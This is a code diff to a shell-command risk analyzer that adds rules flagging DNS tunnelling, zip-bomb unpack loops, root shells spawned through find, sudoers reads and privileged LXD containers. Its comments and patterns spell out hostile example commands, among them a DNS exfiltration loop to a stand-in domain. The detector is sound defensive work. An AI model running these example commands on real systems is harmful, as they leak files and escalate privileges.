@@ -130,6 +130,7 @@ from sandlot.risk.startup_files import (
     harmless_content,
     heartbeats_only,
     hidden_or_temporary,
+    quiet,
     tame,
     web_site,
 )
@@ -547,6 +548,11 @@ class ShellAnalyzer:
                 "writes files until writing fails (fills the disk)",
                 node,
             )
+        if _FINDS_ARCHIVES.search(conditions) and _UNPACKS.search(self._text(body)):
+            # `while find . -name '*.zip' | grep -q .; do unzip …; done`: an archive that holds itself never ends
+            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
+                      "unpacks archives found inside archives until none is left (no depth or size limit: a "
+                      "nested zip bomb fills the disk)", node)  # fmt: skip
         # `find DIR | while read f; do rm "$f"; done` is xargs: $f is every file under DIR
         listing, bound = self._stdin_listing, self._read_variables(node)
         if bound and node.parent is not None and node.parent.type == "redirected_statement":
@@ -1805,6 +1811,10 @@ class ShellAnalyzer:
                 self._nested(value, "shell", node, "a package script written by jq", keep=RiskLevel.HIGH)
         if name in ("jq", "gojq", "jaq") and any(_JQ_ENV.search(a) for a in args if " " in a or a == "env"):
             flow.env = True  # `jq -n env`, `$ENV`: the whole environment
+        if name in T.ARG_SENDERS and any(_DATA_LABEL.match(a) for a in args) and _ENCODER.search(self._source):
+            # `xxd -p FILE | while read c; do dig "$c.t.example.com"; done`: a file leaves, label by label
+            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
+                      f"{name} spells encoded data into the names it looks up (DNS tunnelling)", node)  # fmt: skip
         if name in T.ARG_SENDERS and any(HOLE in a and beacon(a) for a in args):
             self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                       f"{name} spells run-time data into a name under an interaction server (DNS exfiltration)",
@@ -1896,6 +1906,9 @@ class ShellAnalyzer:
         downloaded = self.downloaded
         fetched = [a for a in args if a in downloaded or posixpath.basename(a) in downloaded] if downloaded else []
         runs_fetched = name in T.RUNTIMES or (name in T.SCRIPT_RUNNERS and any(a in ("run", "exec") for a in args))
+        if fetched and not runs_fetched and _installs_package_file(name, args):
+            # `wget …/tool.deb && sudo dpkg -i tool.deb`: its maintainer scripts run as root at once
+            runs_fetched = True
         if runs_fetched and fetched:
             # a named release over HTTPS (`…/releases/download/1.17.1/bundletool-all-1.17.1.jar`) is a tool
             # installed the usual way; anything else fetched and run is someone else's code
@@ -1953,6 +1966,8 @@ class ShellAnalyzer:
         if name in T.PACKAGE_TOOLS or name in T.REGISTRY_CLIENTS:
             self._package_manager(name, args, node)
         rule = _COMMAND_RULES.get(name)
+        if rule is None and HOLE in name and any(a in ("-exec", "-execdir") for a in args):
+            rule = _COMMAND_RULES.get("find")  # `"$FOUND" . -exec /bin/sh -p \;`: a find located at run time
         incoming_secret = flow.secret or flow.env  # from substitutions in the arguments, not the command's output
         if rule is not None:
             before = len(self.findings)
@@ -2089,6 +2104,9 @@ class ShellAnalyzer:
                         or (W.base(wrapped[0]), tuple(wrapped[1:])) in T.ROUTINE_ROOT_CHECKS
                         or _config_check(wrapped)
                         # the machine's own scripts run by hand (`run-parts /etc/update-motd.d`, `/etc/cron.daily`)
+                        # `sudo sh -c "stat /etc/sudoers.d/*"`: a shell only so that a glob or a redirect runs as
+                        # root, around commands that are quiet on their own
+                        or self._quiet_inline_script(wrapped)
                         or (W.base(wrapped[0]) == "run-parts" and bool(W.options(wrapped[1:])[1])
                             and all(d.startswith("/etc/") for d in W.options(wrapped[1:])[1]))
                         or W.base(wrapped[0]) in T.ROOT_INSPECTORS
@@ -2395,6 +2413,8 @@ class ShellAnalyzer:
         level = paths.read_level(info)
         if level <= RiskLevel.SAFE:
             return
+        if self._as_root and info.privilege and info.secret:
+            level = max(level, RiskLevel.HIGH)  # `sudo cat /etc/sudoers`: root's rules, read with root's rights
         own = info.kind is paths.PathKind.RELATIVE and HOLE not in info.path
         if own and W.base(via) in T.SECRET_CONSUMERS:
             # `sops exec-env secrets/dev.enc.env`, `op run --env-file=.env.tpl`: the project's own
@@ -3331,7 +3351,9 @@ class ShellAnalyzer:
             if name == "sed" and "i" not in flags and "--in-place" not in flags:
                 return
             targets = operands[1:] if name == "sed" else operands
-            if name == "install":
+            # `install -d -o app -m 0750 /var/lib/app`: directories made, as mkdir makes them
+            directories = name == "mkdir" or (name == "install" and ("d" in flags or "--directory" in flags))
+            if name == "install" and not directories:
                 targets = operands[-1:]
                 mode = next(
                     (
@@ -3345,7 +3367,10 @@ class ShellAnalyzer:
                     # install -m 4755 SRC DEST is cp + chmod: a setuid or world-writable copy
                     world, setuid, opens = W.mode_bits(mode)
                     info = paths.classify(targets[0])
-                    level = paths.mode_level(info, world_writable=world, setuid=setuid, opens_secret=opens)
+                    others_read = not (mode.isdigit() and not int(mode, 8) & 0o004)
+                    level = paths.mode_level(
+                        info, world_writable=world, setuid=setuid, opens_secret=opens, others_read=others_read
+                    )
                     if level > RiskLevel.SAFE:
                         self._add(
                             "shell.chmod", level, Category.PRIVILEGE, f"install -m {mode} {paths.describe(info)}", node
@@ -3355,7 +3380,7 @@ class ShellAnalyzer:
             replacements = [m.group("replacement") for script in scripts if (m := _SED_SUBSTITUTION.match(script))]
             for target in targets:
                 info = paths.classify(target)
-                if name == "mkdir" and not info.persistence:
+                if directories and not info.persistence:
                     continue  # creating a directory only matters where things get auto-started
                 weakness = next(filter(None, (web_server_weakness(target, r) for r in replacements)), None)
                 if weakness is None and web_config(target) and any(protection_deleted(s) for s in scripts):
@@ -3367,7 +3392,8 @@ class ShellAnalyzer:
                 cap = RiskLevel.MEDIUM if quiet else None
                 if name == "install" and self._project_file_installed(operands[:-1], info):
                     cap = RiskLevel.MEDIUM
-                if name == "install":
+                if name == "install" and not directories:
+                    cap = cap or self._copied_text_cap(operands[:-1], info, node)
                     self._installs_download(name, operands[:-1], info, node)
                 self._write(info, node, via=name, cap=cap)
             return
@@ -3463,8 +3489,30 @@ class ShellAnalyzer:
                 cap = RiskLevel.MEDIUM
             if cap is None and all(s.startswith("/etc/xdg/autostart/") for s in sources) and "autostart" in dest:
                 cap = RiskLevel.MEDIUM  # the system's own autostart entry copied to override it for one user
+            cap = cap or self._copied_text_cap(sources, dest_info, node)
             self._installs_download(name, sources, dest_info, node)
             self._write(dest_info, node, via=name, cap=cap)
+
+    def _quiet_inline_script(self, argv: Sequence[str]) -> bool:
+        """``sh -c SCRIPT`` (a constant script) that needs the shell for a glob or a redirect to run as root,
+        around commands that report nothing above low and nothing loud. Without one (``sudo bash -c id``) the
+        shell itself is what was asked for: a root shell."""
+        if len(argv) < 3 or W.base(argv[0]) not in T.SHELLS or argv[1] != "-c" or HOLE in argv[2]:
+            return False
+        if not any(c in argv[2] for c in "*>|"):
+            return False
+        if self.depth >= MAX_DEPTH:
+            return False
+        inner = ShellAnalyzer(parse_error_level=self.parse_error_level, depth=self.depth + 1).analyze(argv[2])
+        return quiet(inner)
+
+    def _copied_text_cap(self, sources: Sequence[str], dest: paths.PathInfo, node: Any) -> RiskLevel | None:
+        """A file this script wrote (``cat > /tmp/rule <<EOF``) then installed or copied into place: its content
+        is judged where it lands, as if written there directly."""
+        files = [s for s in sources if not s.isdigit()]
+        if len(files) != 1 or files[0] not in self._written_texts:
+            return None
+        return self._script_content(dest, self._written_texts[files[0]], node)
 
     def _installs_download(self, name: str, sources: Sequence[str], dest: paths.PathInfo, node: Any) -> None:
         """A file downloaded by this script (not from a pinned release) put where programs are run from."""
@@ -4625,7 +4673,11 @@ class ShellAnalyzer:
         joined = " ".join(args)
         groups = {g for v in W.option_values(args, "-G", "-g", "--groups", "--gid", "-aG") for g in v.split(",")}
         groups |= {a for a in args if not a.startswith("-")} if name in ("gpasswd", "adduser") else set()
-        admin_group = bool(groups & T.ADMIN_GROUPS)
+        # `gpasswd -d jdoe docker`, `deluser jdoe docker`: an account taken out of a group loses rights
+        removes = name in ("deluser", "delgroup", "userdel") or (
+            name == "gpasswd" and any(a in ("-d", "--delete") for a in args)
+        )
+        admin_group = bool(groups & T.ADMIN_GROUPS) and not removes
         root_uid = any(v in ("0", "root") for v in W.option_values(args, "-u", "--uid", "-o")) or "-o" in args
         sets_password = any(a in ("-p", "--password") for a in args) or name in ("chpasswd", "newusers")
         if name == "setcap":
@@ -4665,6 +4717,10 @@ class ShellAnalyzer:
         dest = (W.option_values(args, "-d") if name == "unzip" else W.option_values(args, "-C", "--directory"))
         dest = dest or [a[2:] for a in args if name.startswith("7z") and a.startswith("-o")] or [self._cwd or "."]
         info = paths.classify(dest[-1])
+        archives = [a for a in args if _ARCHIVE_NAME.search(a)]
+        if any(paths.untrusted_inbox(a) for a in archives):
+            # what a mail attachment or an upload holds: running it is running a download
+            self.cloned.add(posixpath.normpath(dest[-1]))
         local_software = (dest[-1].rstrip("/") + "/").startswith(("/usr/local/", "/opt/"))
         over = info.kind in (paths.PathKind.ROOT, paths.PathKind.HOME_TOP) or (
             info.kind in (paths.PathKind.SYSTEM, paths.PathKind.SYSTEM_TOP) and not local_software
@@ -4937,6 +4993,31 @@ class ShellAnalyzer:
                 f"{name} {args[0]} gives the container the host's privileges or root file system",
                 node,
             )
+
+    def _rule_system_container(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
+        """LXD/Incus: a privileged container (root inside is root on the host), the host's root or start-up
+        folders attached as a disk device, and commands run inside (``lxc exec NAME -- CMD``)."""
+        settings = [a.lower().replace(" ", "") for a in args if "=" in a]
+        privileged = any(s in ("security.privileged=true", "security.privileged=1") for s in settings) or (
+            "security.privileged" in args and any(a.lower() in ("true", "1") for a in args)
+        )
+        sources = [a.split("=", 1)[1] for a in args if a.startswith("source=")]
+        host_root = any(
+            src.rstrip("/") in ("", "/etc", "/root", "/proc", "/sys", "/var/run", "/run")
+            or src.startswith(_HOST_START_DIRS)
+            or paths.classify(src).kind in (paths.PathKind.ROOT, paths.PathKind.HOME_TOP)
+            or paths.classify(src).secret
+            for src in sources
+        )
+        unconfined = any("apparmor.profile=unconfined" in s or s == "lxc.cap.drop=" for s in settings)
+        if privileged or host_root or unconfined:
+            what = ("attaches the host's root, home or start-up folders to a container" if host_root
+                    else "makes a container privileged (its root is root on the host)")  # fmt: skip
+            self._add("shell.container-escape", RiskLevel.HIGH, Category.PRIVILEGE, f"{name} {what}", node)
+        if "exec" in args[:1] and "--" in args:
+            inner = args[args.index("--") + 1 :]
+            if inner:
+                self._argv(inner, node, _Flow(), [])
 
     def _secrets_into_image(self, name: str, image: str, args: list[str], node: Any) -> None:
         """Keys mounted (``-v ~/.ssh:/in``) or credentials passed (``-e GITHUB_TOKEN``) into a container: its
@@ -6288,6 +6369,30 @@ def _trim(value: str, op: str, pattern: str) -> str:
     return value[: (min(starts) if op == "%%" else max(starts))] if starts else value
 
 
+#: A loop condition looking for archives still to unpack.
+_FINDS_ARCHIVES = re.compile(r"\bfind\b.*\.(?:zip|tar|t?gz|7z|rar)\b|\bls\b.*\*\.(?:zip|t?gz)\b")
+_UNPACKS = re.compile(r"\bunzip\b|\btar\s+-?\w*x|\b7za?\s+x\b|\bgunzip\b|\bunrar\s+x\b")
+#: A DNS name whose first label is run-time data: `$chunk.t.example.com`.
+_DATA_LABEL = re.compile(r"^\x00[\w-]*\.(?:[\w-]+\.)+[a-z]{2,}\.?$", re.I)
+#: Commands that turn a file into text fit for a DNS label (hex, base32/64).
+_ENCODER = re.compile(rb"\b(?:xxd|hexdump|od\s+-[A-Za-z]*x|base32|base64(?!\s+-d)|basenc)\b")
+_ARCHIVE_NAME = re.compile(r"\.(?:zip|tar|tar\.\w+|tgz|tbz2?|txz|7z|rar)$", re.I)
+
+
+def _installs_package_file(name: str, args: Sequence[str]) -> bool:
+    """``dpkg -i FILE``, ``rpm -Uvh FILE``, ``apt install ./FILE``, ``pip install FILE``: a package file installed
+    (its install scripts run), not queried or listed."""
+    if name in ("dpkg", "rpm"):
+        return any(
+            a in ("--install", "--unpack", "--upgrade", "--freshen")
+            or (a.startswith("-") and not a.startswith("--") and a[1:2] in ("i", "U", "F") and "q" not in a)
+            for a in args
+        )
+    if name in ("apt", "apt-get", "yum", "dnf", "zypper", "gdebi", "pip", "pip3", "pipx", "installer", "snap"):
+        return name in ("gdebi", "installer") or any(a in ("install", "localinstall", "reinstall", "in") for a in args)
+    return False
+
+
 def _extracts(name: str, args: list[str]) -> bool:
     """The archiver unpacks (``tar -xzf``, ``unzip``, ``7z x``) rather than packs."""
     if name == "unzip":
@@ -6678,6 +6783,7 @@ for _names, _rule in (
     ({"fdupes", "jdupes", "rdfind", "mogrify"}, ShellAnalyzer._rule_rewriters),
     ({"grep", "egrep", "fgrep", "rg", "ag", "zgrep"}, ShellAnalyzer._rule_grep),
     ({"docker", "podman", "nerdctl", "crictl"}, ShellAnalyzer._rule_container),
+    ({"lxc", "incus"}, ShellAnalyzer._rule_system_container),
     ({"nsenter"}, ShellAnalyzer._rule_nsenter),
     ({"redis-cli", "valkey-cli", "keydb-cli"}, ShellAnalyzer._rule_redis),
     ({"pg_restore", "mongorestore"}, ShellAnalyzer._rule_restore),
